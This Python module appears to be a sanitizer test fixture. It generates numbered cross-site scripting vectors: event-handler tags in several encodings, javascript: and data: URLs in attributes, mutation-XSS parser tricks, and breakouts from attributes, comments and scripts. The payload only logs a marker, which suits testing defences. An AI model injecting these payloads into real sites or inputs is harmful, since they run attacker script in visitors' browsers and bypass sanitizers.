"""Markup that would run script in a browser: families times contexts, each with a number of its own.

A vector that runs says its number on the console: no frame, no policy and no quoting hides that.
"""

from __future__ import annotations

from html import escape
from itertools import count
from typing import TYPE_CHECKING

if TYPE_CHECKING:
    from collections.abc import Iterator

#: replaced by the script, which has no quotes, blanks or brackets of its own but these
JS = "@JS@"

#: a tag whose handler fires by itself or by a visitor's hand
HANDLED = (
    "<img src=x onerror=@JS@>", "<img src=x: onerror=@JS@ alt=a>", "<svg onload=@JS@></svg>",
    "<body onload=@JS@>", "<body onpageshow=@JS@>", "<details open ontoggle=@JS@>x</details>",
    "<video src=x onerror=@JS@></video>", "<video><source onerror=@JS@></video>",
    "<audio src=x onerror=@JS@></audio>", "<audio onloadstart=@JS@ src=x></audio>",
    "<input autofocus onfocus=@JS@>", "<select autofocus onfocus=@JS@></select>",
    "<textarea autofocus onfocus=@JS@></textarea>", "<button autofocus onfocus=@JS@>x</button>",
    "<a href=# autofocus onfocus=@JS@>x</a>", "<p tabindex=1 autofocus onfocus=@JS@>x</p>",
    "<marquee onstart=@JS@>x</marquee>", "<object data=x onerror=@JS@></object>",
    "<embed src=x onload=@JS@>", "<iframe onload=@JS@></iframe>", "<iframe src=x onload=@JS@></iframe>",
    "<style onload=@JS@>a{}</style>", "<link rel=stylesheet href=x onerror=@JS@>",
    "<svg><animate onbegin=@JS@ attributeName=x dur=1s></svg>", "<svg><set onbegin=@JS@ attributeName=x></svg>",
    "<svg><image href=x onerror=@JS@></svg>", "<svg><script>@JS@</script></svg>",
    "<form onsubmit=@JS@><button>x</button></form>", "<div onclick=@JS@>x</div>",
    "<p onmouseover=@JS@>x</p>", "<p onmouseenter=@JS@>x</p>", "<p onpointerover=@JS@>x</p>",
    "<td onmouseover=@JS@>x</td>", "<table background=x onload=@JS@><tr><td>1<td>2<tr><td>3</table>",
    "<p style=animation-name:a onanimationstart=@JS@>x</p>", "<p oncontextmenu=@JS@>x</p>",
    "<p contenteditable onpaste=@JS@>x</p>", "<p ondragstart=@JS@ draggable=true>x</p>",
    "<figure onclick=@JS@><img src=/a.jpg></figure>", "<blockquote onclick=@JS@>x</blockquote>",
    "<meta charset=x onload=@JS@>", "<dialog open onclose=@JS@>x</dialog>", "<x-y onclick=@JS@>x</x-y>",
)  # fmt: skip
#: ways to write one and the same tag
DRESSES = (
    lambda tag: tag,
    lambda tag: tag.upper().replace("@JS@", JS),
    lambda tag: tag.replace(" on", "/on", 1),
    lambda tag: tag.replace(" on", "\n\t\x0con", 1),
    lambda tag: tag.replace("=@JS@", "='@JS@'"),
    lambda tag: tag.replace("=@JS@", ' = "@JS@"'),
    lambda tag: tag.replace("@JS@", "&#99;onsole.log(&#x2f;@N@/)"),
)
#: schemes that run, as browsers read them through blanks, controls and entities
SCHEMES = (
    "javascript:@JS@", "JaVaScRiPt:@JS@", " javascript:@JS@", "java\tscript:@JS@", "java\nscript:@JS@",
    "java&Tab;script:@JS@", "&#106;avascript:@JS@", "&#x6A&#x61vascript:@JS@", "javascript&colon;@JS@",
    "\x01javascript:@JS@", "javascript://%0a@JS@", "vbscript:@JS@", "data:text/html,<script>@JS@</script>",
    "data:text/html;base64,PHNjcmlwdD5jb25zb2xlLmxvZygvcmFuMC8pPC9zY3JpcHQ+",
    "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='@JS@'/>",
)  # fmt: skip
HOLDERS = (
    "<a href='{}'>x</a>", "<area href='{}'>", "<iframe src='{}'></iframe>", "<embed src='{}'>",
    "<object data='{}'></object>", "<form action='{}'><button>x</button></form>",
    "<form><button formaction='{}'>x</button></form>", "<img src='{}'>", "<input type=image src='{}'>",
    "<svg><a href='{}'><text y=9>x</text></a></svg>", "<math><mi href='{}'>x</mi></math>",
    "<base href='{}'>", "<meta http-equiv=refresh content='0;url={}'>", "<link rel=import href='{}'>",
    "<video poster='{}' src='{}'></video>", "<blockquote cite='{}'>x</blockquote>", "<p background='{}'>x</p>",
    "<a href='/a' ping='{}'>x</a>",
)  # fmt: skip
#: trees that change between two parsings
MUTATIONS = (
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=@JS@&gt;\">",
    "<svg></p><style><a id=\"</style><img src=1 onerror=@JS@>\">",
    "<noscript><p title=\"</noscript><img src=x onerror=@JS@>\">",
    "<form><math><mtext></form><form><mglyph><svg><mtext><style><path id=</style><img onerror=@JS@ src>",
    "<textarea><p title=\"</textarea><img src=x onerror=@JS@>\">",
    "<title><a title=\"</title><img src=x onerror=@JS@>\">", "<xmp><p title=\"</xmp><img src=x onerror=@JS@>\">",
    "<template><p title=\"</template><img src=x onerror=@JS@>\">", "<noembed><p title=\"</noembed><img src=x onerror=@JS@>\">",
    "<noframes><p title=\"</noframes><img src=x onerror=@JS@>\">", "<iframe><p title=\"</iframe><img src=x onerror=@JS@>\">",
    "<svg><foreignObject><p><style><!--</style><img src=x onerror=@JS@>-->", "<svg><desc><img src=x onerror=@JS@></desc></svg>",
    "<select><option><style></option></select><img src=x onerror=@JS@></style>", "<table><a><img src=x onerror=@JS@></a></table>",
    "<!--><img src=x onerror=@JS@>-->", "<!--!><img src=x onerror=@JS@>", "<!-- --!><img src=x onerror=@JS@>", "<![CDATA[<img src=x onerror=@JS@>]]>",
    "<?xml ><img src=x onerror=@JS@>?>", "</ <img src=x onerror=@JS@>", "<a title='`<img src=x onerror=@JS@>`'>x</a>",
    "<p id=a<img src=x onerror=@JS@>>", "<img alt='<x' title='/><img src=x onerror=@JS@>'>", "<plaintext><img src=x onerror=@JS@>",
    "<listing>&lt;img src=x onerror=@JS@&gt;</listing>", "<math><annotation-xml encoding=text/html><img src=x onerror=@JS@></annotation-xml></math>",
    "<p>&lt;img src=x onerror=@JS@&gt;</p>", "<p>&amp;lt;img src=x onerror=@JS@&amp;gt;</p>", "<p>＜img src=x onerror=@JS@＞</p>",
    "<rt><rp><ruby><img src=x onerror=@JS@>", "<p>\u202e>@JS@=rorreno x=crs gmi<</p>",
)  # fmt: skip
#: script elements and attempts to leave an attribute, a comment, a title, a script or a CDATA section
OTHERS = (
    "<script>@JS@</script>", "<SCRIPT>@JS@</SCRIPT>", "<script src=data:,@JS@></script>", "<script>@JS@", "<script/x>@JS@</script>",
    "<script\n>@JS@</script\n>", "<scr<script>ipt>@JS@</scr</script>ipt>", "<script type=module>@JS@</script>",
    "<<script>@JS@</script>", "<script>/*</script><script>*/@JS@</script>", "<scr\0ipt>@JS@</scr\0ipt>", "<iframe srcdoc='<script>@JS@</script>'></iframe>",
    "<iframe srcdoc='&lt;script>@JS@&lt;/script>'></iframe>", "<object><param name=src value='javascript:@JS@'></object>",
    '"><script>@JS@</script>', "'><script>@JS@</script>", "--><script>@JS@</script>", "]]><script>@JS@</script>", "</title><script>@JS@</script>",
    "</textarea><script>@JS@</script>", "</style><script>@JS@</script>", "</script><script>@JS@</script>", '" onmouseover=@JS@ x="', "' autofocus onfocus=@JS@ x='",
    "`onmouseover=@JS@", "\\\"><script>@JS@</script>", "%3Cscript%3E@JS@%3C/script%3E", "+ADw-script+AD4-@JS@+ADw-/script+AD4-", "\\u003cscript\\u003e@JS@",
    "{{constructor.constructor('@JS@')()}}", "{% raw %}<script>@JS@</script>", "${@JS@}", "<%= @JS@ %>", "&lt;script&gt;@JS@&lt;/script&gt;", "＜script＞@JS@＜/script＞",
    "<p style='background:url(javascript:@JS@)'>x</p>", "<p style='width:expression(@JS@)'>x</p>", "<style>@import 'javascript:@JS@';</style>",
    "<p style='-moz-binding:url(data:text/xml,@JS@)'>x</p>", "<p style='behavior:url(@JS@)'>x</p>",
)  # fmt: skip


def script(number: int) -> str:
    return f"console.log(/ran{number}/)"


def _all() -> Iterator[str]:
    for tag in HANDLED:
        for dress in DRESSES:
            yield dress(tag)
    for holder in HOLDERS:
        for scheme in SCHEMES:
            value = scheme.replace("'", "&#39;").replace("<", "&lt;")
            yield holder.replace("{}", value)
    yield from MUTATIONS
    yield from OTHERS


def vectors() -> tuple[str, ...]:
    """Return every vector once; number ``n`` of the tuple says ``/rann/`` if it runs."""
    numbers = count()
    return tuple(
        text.replace("@JS@", script(n)).replace("@N@", f"ran{n}")
        for text in dict.fromkeys(_all())
        for n in [next(numbers)]
    )


def framed(markup: str) -> str:
    """Return markup as a document of its own within a page."""
    return f'<iframe srcdoc="{escape(markup)}"></iframe>'
